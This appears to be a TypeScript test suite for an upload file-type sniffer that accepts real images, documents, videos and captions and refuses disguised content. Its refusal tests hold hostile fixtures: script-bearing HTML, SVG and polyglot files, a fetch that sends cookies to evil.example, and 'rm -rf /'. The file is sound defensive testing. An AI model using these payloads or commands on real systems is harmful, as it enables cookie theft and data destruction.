import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HttpProblem } from '../http/errors.js';
import { ACCEPTED_FILE_TYPES } from './file-types.js';
import { decideFileType, RESOURCE_HEADER_BYTES, type DecideFileTypeOptions } from './sniff.js';
import { zip } from './_zip.js';

let directory: string;
let count = 0;

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'ecotone-sniff-'));
});
afterAll(async () => {
  await rm(directory, { recursive: true, force: true });
});

/** Writes `bytes` to a fresh file (named without extension: the name on disk must not matter). */
async function fixture(bytes: string | Buffer): Promise<string> {
  const path = join(directory, `upload-${++count}`);
  await writeFile(path, bytes);
  return path;
}

async function decide(bytes: string | Buffer, options?: DecideFileTypeOptions) {
  return decideFileType(await fixture(bytes), options);
}

/** The HttpProblem `decideFileType` throws for `bytes`, asserting it throws one. */
async function refusal(bytes: string | Buffer, options?: DecideFileTypeOptions): Promise<HttpProblem> {
  const error: unknown = await decide(bytes, options).then(
    (type) => new Error(`accepted as ${type.mediaType}`),
    (e: unknown) => e,
  );
  if (!(error instanceof HttpProblem)) throw error;
  return error;
}

const image = () => sharp({ create: { width: 4, height: 4, channels: 3, background: '#f00' } });

const PDF = [
  '%PDF-1.4',
  '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
  '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
  '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj',
  'xref',
  '0 4',
  '0000000000 65535 f ',
  'trailer << /Size 4 /Root 1 0 R >>',
  'startxref',
  '0',
  '%%EOF',
  '',
].join('\n');

const contentTypes = (main: string, part: string) =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  `<Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.${main}.main+xml"/>` +
  '</Types>';

const RELS =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
  '</Relationships>';

/** A Word document as Word writes one: deflated parts, `[Content_Types].xml` first. */
const docx = (stored = false) =>
  zip([
    { name: '[Content_Types].xml', content: contentTypes('wordprocessingml.document', 'word/document.xml'), stored },
    { name: '_rels/.rels', content: RELS, stored },
    {
      name: 'word/document.xml',
      content:
        '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
        '<w:body><w:p><w:r><w:t>Minutes</w:t></w:r></w:p></w:body></w:document>',
      stored,
    },
  ]);

/** An OpenDocument file: the `mimetype` entry first and stored, as the standard requires. */
const openDocument = (mediaType: string) =>
  zip([
    { name: 'mimetype', content: mediaType, stored: true },
    {
      name: 'META-INF/manifest.xml',
      content:
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">' +
        `<manifest:file-entry manifest:full-path="/" manifest:media-type="${mediaType}"/></manifest:manifest>`,
    },
    { name: 'content.xml', content: '<?xml version="1.0" encoding="UTF-8"?><office:document-content/>' },
  ]);

/** An ISO BMFF (MP4) start: an `ftyp` box with brand isom, then an empty `mdat`. */
function mp4(): Buffer {
  const ftyp = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypisom'), Buffer.from([0, 0, 2, 0]), Buffer.from('isomiso2')]);
  const mdat = Buffer.concat([Buffer.from([0, 0, 0, 8]), Buffer.from('mdat')]);
  return Buffer.concat([ftyp, mdat]);
}

/** An EBML header (EBMLVersion 1, DocType `docType`) followed by an empty Segment. */
function ebml(docType: string): Buffer {
  const version = Buffer.from([0x42, 0x86, 0x81, 0x01]);
  const type = Buffer.concat([Buffer.from([0x42, 0x82, 0x80 | docType.length]), Buffer.from(docType, 'ascii')]);
  const body = Buffer.concat([version, type]);
  const header = Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80 | body.length]), body]);
  const segment = Buffer.from([0x18, 0x53, 0x80, 0x67, 0x80]);
  return Buffer.concat([header, segment]);
}

const VTT = 'WEBVTT\n\n00:00:00.000 --> 00:00:02.000\n<v Ana>Bonjour à tous, <b>welcome</b>.\n';

describe('the accepted types table', () => {
  it('has one entry per media type with a kind and a lowercase extension', () => {
    expect([...ACCEPTED_FILE_TYPES.keys()]).toHaveLength(15);
    for (const [mediaType, type] of ACCEPTED_FILE_TYPES) {
      expect(type.mediaType).toBe(mediaType);
      expect(type.extension).toMatch(/^[a-z0-9]{1,8}$/);
    }
    expect(new Set([...ACCEPTED_FILE_TYPES.values()].map((t) => t.kind))).toEqual(new Set(['image', 'document', 'video', 'caption']));
  });
});

describe('decideFileType accepts by the bytes', () => {
  it('recognises JPEG, PNG, WebP and GIF made by sharp, whatever the name and declared type say', async () => {
    const options = { declaredName: 'notes.txt', declaredType: 'text/plain' };
    expect(await decide(await image().jpeg().toBuffer(), options)).toEqual({ kind: 'image', mediaType: 'image/jpeg', extension: 'jpg' });
    expect(await decide(await image().png().toBuffer(), options)).toEqual({ kind: 'image', mediaType: 'image/png', extension: 'png' });
    expect(await decide(await image().webp().toBuffer(), options)).toEqual({ kind: 'image', mediaType: 'image/webp', extension: 'webp' });
    expect(await decide(await image().gif().toBuffer(), options)).toEqual({ kind: 'image', mediaType: 'image/gif', extension: 'gif' });
  });

  it('accepts photos carrying XMP metadata (RDF, not markup a browser runs) near their start', async () => {
    const xmp =
      '<?xpacket begin="\uFEFF" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">' +
      '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">' +
      '<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Team photo</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>';
    const jpeg = await image().jpeg().withXmp(xmp).toBuffer();
    expect(jpeg.subarray(0, RESOURCE_HEADER_BYTES).toString('latin1')).toContain('<x:xmpmeta');
    expect((await decide(jpeg)).mediaType).toBe('image/jpeg');
    expect((await decide(await image().png().withXmp(xmp).toBuffer())).mediaType).toBe('image/png');
  });

  it('recognises a PDF', async () => {
    expect(await decide(PDF, { declaredName: 'report.doc' })).toEqual({ kind: 'document', mediaType: 'application/pdf', extension: 'pdf' });
  });

  it('recognises OOXML documents by the entries of their zip', async () => {
    expect(await decide(docx(), { declaredName: 'minutes.zip', declaredType: 'application/zip' })).toEqual({
      kind: 'document',
      mediaType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      extension: 'docx',
    });
    const xlsx = zip([
      { name: '[Content_Types].xml', content: contentTypes('spreadsheetml.sheet', 'xl/workbook.xml') },
      { name: 'xl/workbook.xml', content: '<?xml version="1.0"?><workbook/>' },
    ]);
    expect((await decide(xlsx)).extension).toBe('xlsx');
    const pptx = zip([
      { name: '[Content_Types].xml', content: contentTypes('presentationml.presentation', 'ppt/presentation.xml') },
      { name: 'ppt/presentation.xml', content: '<?xml version="1.0"?><presentation/>' },
    ]);
    expect((await decide(pptx)).extension).toBe('pptx');
  });

  it('recognises OpenDocument text, spreadsheets and presentations by their mimetype entry', async () => {
    expect(await decide(openDocument('application/vnd.oasis.opendocument.text'))).toEqual({
      kind: 'document',
      mediaType: 'application/vnd.oasis.opendocument.text',
      extension: 'odt',
    });
    expect((await decide(openDocument('application/vnd.oasis.opendocument.spreadsheet'))).extension).toBe('ods');
    expect((await decide(openDocument('application/vnd.oasis.opendocument.presentation'))).extension).toBe('odp');
  });

  it('recognises MP4 by its ftyp box and WebM by its EBML DocType', async () => {
    expect(await decide(mp4(), { declaredName: 'clip.mov' })).toEqual({ kind: 'video', mediaType: 'video/mp4', extension: 'mp4' });
    expect(await decide(ebml('webm'))).toEqual({ kind: 'video', mediaType: 'video/webm', extension: 'webm' });
  });

  it('takes UTF-8 text in any language, with or without a BOM, as text/plain', async () => {
    const plain = { kind: 'document', mediaType: 'text/plain', extension: 'txt' };
    expect(await decide('Meeting notes\r\n\tBring the budget 2027 & the 3 < 4 slides.\f\n')).toEqual(plain);
    expect(await decide('Compte rendu : « réunion » à 9 h, café offert.\n')).toEqual(plain);
    expect(await decide('Protokoll: Größenänderung der Straße, Übergabe am Montag.\n')).toEqual(plain);
    expect(await decide('会議の議事録：来週の月曜日に予算を確認します。\n')).toEqual(plain);
    expect(await decide(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('Avec BOM.\n')]))).toEqual(plain);
  });

  it('takes WEBVTT text as a caption, with cue markup such as <b> and <v>', async () => {
    const caption = { kind: 'caption', mediaType: 'text/vtt', extension: 'vtt' };
    expect(await decide(VTT, { expectedKind: 'caption' })).toEqual(caption);
    expect(await decide('\uFEFFWEBVTT - Kind: captions\n\n')).toEqual(caption);
    expect(await decide('WEBVTT')).toEqual(caption);
    const styled =
      'WEBVTT\n\nNOTE cue markup of WebVTT, not HTML\n\n1\n00:00:01.000 --> 00:00:03.000 align:start\n' +
      '<c.yellow>Hello</c> <i>there</i>, <u>you</u> <ruby>漢<rt>kan</rt></ruby> <lang de>Straße</lang> <00:00:02.000>now\n';
    expect(await decide(styled)).toEqual(caption);
    // Not followed by a space, tab or newline: plain text, not a caption.
    expect(await decide('WEBVTTX\n')).toEqual({ kind: 'document', mediaType: 'text/plain', extension: 'txt' });
  });

  it('reads a text file past its first chunk, to the end', async () => {
    const long = 'Ligne de texte ordinaire, encore et encore.\n'.repeat(5000);
    expect((await decide(long)).mediaType).toBe('text/plain');
    // A fault far beyond the head is still found.
    const problem = await refusal(long + '\u0000');
    expect(problem.code).toBe('file_type_refused');
    expect(problem.message).toMatch(/NUL/);
  });
});

describe('decideFileType refuses', () => {
  it('an empty file with file_empty', async () => {
    const problem = await refusal('', { declaredName: 'photo.jpg' });
    expect(problem.code).toBe('file_empty');
    expect(problem.message).toBe('"photo.jpg" is empty (0 bytes)');
  });

  it('an HTML page named photo.jpg and declared image/jpeg', async () => {
    const problem = await refusal('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>', {
      declaredName: 'photo.jpg',
      declaredType: 'image/jpeg',
    });
    expect(problem.code).toBe('file_type_refused');
    expect(problem.message).toBe(
      `"photo.jpg" (declared image/jpeg) is refused: its first ${RESOURCE_HEADER_BYTES} bytes contain markup a browser could run ("<!doctype html")`,
    );
  });

  it('HTML without the usual tags, by its start', async () => {
    const problem = await refusal('  <p onclick="steal()">Click</p>', { declaredName: 'note.txt' });
    expect(problem.code).toBe('file_type_refused');
    expect(problem.message).toMatch(/HTML markup \("<p"\)/);
    expect((await refusal('\n<x-widget>hi</x-widget>')).message).toMatch(/starts like HTML or XML markup/);
  });

  it('an SVG with a script, and plain XML', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>';
    const problem = await refusal(svg, { declaredName: 'logo.svg', declaredType: 'image/svg+xml' });
    expect(problem.code).toBe('file_type_refused');
    expect(problem.message).toMatch(/"<svg"/);
    expect((await refusal('<?xml version="1.0"?>\n<note>hi</note>')).message).toMatch(/"<\?xml"/);
  });

  it('a PDF that is also an HTML page (a polyglot)', async () => {
    const polyglot = '%PDF-1.4\n%\u00e2\u00e3\n<html><script>alert(1)</script></html>\n' + PDF.slice('%PDF-1.4\n'.length);
    const problem = await refusal(polyglot, { declaredName: 'report.pdf', declaredType: 'application/pdf' });
    expect(problem.code).toBe('file_type_refused');
    expect(problem.message).toMatch(/markup a browser could run \("<html"\)/);
  });

  it('a JPEG carrying an HTML comment in its first 1445 bytes, but not one carrying it further on', async () => {
    const jpeg = await image().jpeg().toBuffer();
    // A COM segment right after SOI: valid JPEG, and markup in the sniffed window.
    const text = Buffer.from('<!-- <img src=x onerror=alert(1)> -->');
    const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, text.length + 2]), text]);
    const polyglot = Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]);
    expect((await refusal(polyglot)).message).toMatch(/"<!--"/);
    // Beyond the sniffed window, a browser never looks.
    const far = Buffer.concat([jpeg, Buffer.alloc(RESOURCE_HEADER_BYTES), text]);
    expect((await decide(far)).mediaType).toBe('image/jpeg');
  });

  it('a text file with a NUL byte, or another control character', async () => {
    const problem = await refusal('Hello\u0000world\n', { declaredName: 'notes.txt' });
    expect(problem.code).toBe('file_type_refused');
    expect(problem.message).toBe('"notes.txt" is refused: its content matches no accepted binary format and it is not text (it contains a NUL byte)');
    expect((await refusal('Escape \u001b[31m red\n')).message).toMatch(/control character U\+001B/);
  });

  it('text that is not UTF-8 (Latin-1, UTF-16)', async () => {
    expect((await refusal(Buffer.from('Caf\u00e9 cr\u00e8me\n', 'latin1'))).message).toMatch(/not valid UTF-8/);
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Hello\n', 'utf16le')]);
    expect((await refusal(utf16)).code).toBe('file_type_refused');
  });

  it('random bytes', async () => {
    // Fixed bytes rather than a fresh draw each run: a test must not pass by luck.
    const bytes = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 151 + 7) % 256));
    const problem = await refusal(bytes, { declaredName: 'data.bin' });
    expect(problem.code).toBe('file_type_refused');
    expect(problem.message).toMatch(/not text \((not valid UTF-8|it contains)/);
    // High bytes that are not UTF-8 from the first one.
    expect((await refusal(Buffer.from([0x80, 0xff, 0x13, 0x37, 0xc3, 0x28]))).message).toMatch(/not valid UTF-8/);
  });

  it('JavaScript, by its name, its declared type or its start', async () => {
    const script = 'function steal() {\n  fetch("https://evil.example/?c=" + document.cookie);\n}\nsteal();\n';
    expect((await refusal(script, { declaredName: 'app.js' })).message).toMatch(/text named \.js/);
    expect((await refusal('alert(1)\n', { declaredName: 'x.txt', declaredType: 'text/javascript; charset=utf-8' })).message).toMatch(
      /declared as text\/javascript/,
    );
    expect((await refusal(script, { declaredName: 'notes.txt' })).message).toMatch(/starts like JavaScript/);
    expect((await refusal('import { x } from "./y.js";\n')).message).toMatch(/JavaScript/);
    expect((await refusal('#!/bin/sh\nrm -rf /\n')).message).toMatch(/script/);
    // English that happens to begin with such a word is still text.
    expect((await decide('Import the budget from last year, then export it.\n')).mediaType).toBe('text/plain');
  });

  it('executables and archives that are not OOXML or OpenDocument', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]);
    expect((await refusal(elf, { declaredName: 'tool.pdf' })).message).toMatch(/its content is application\/x-elf/);
    const archive = zip([{ name: 'hello.txt', content: 'hello' }]);
    expect((await refusal(archive)).message).toMatch(/its content is application\/zip \(\.zip\), which is not an accepted type/);
    expect((await refusal(ebml('matroska'))).message).toMatch(/matroska/);
  });

  it('an OOXML file whose XML parts are stored uncompressed at its start (markup in the sniffed window)', async () => {
    // Word and LibreOffice deflate these parts; stored, the XML is plain in the first bytes.
    expect((await refusal(docx(true))).message).toMatch(/"<\?xml"/);
  });

  it('a caption that does not start with WEBVTT, and a file of another kind than expected', async () => {
    const srt = '1\n00:00:00,000 --> 00:00:02,000\nHello\n';
    const problem = await refusal(srt, { declaredName: 'subtitles.vtt', expectedKind: 'caption' });
    expect(problem.code).toBe('file_type_refused');
    expect(problem.message).toBe('"subtitles.vtt" is refused: its content is text/plain, a document, not a caption');
    expect((await refusal(PDF, { expectedKind: 'caption' })).message).toMatch(/application\/pdf, a document, not a caption/);
    expect((await refusal(await image().png().toBuffer(), { expectedKind: 'video' })).message).toMatch(/image\/png, an image, not a video/);
  });
});
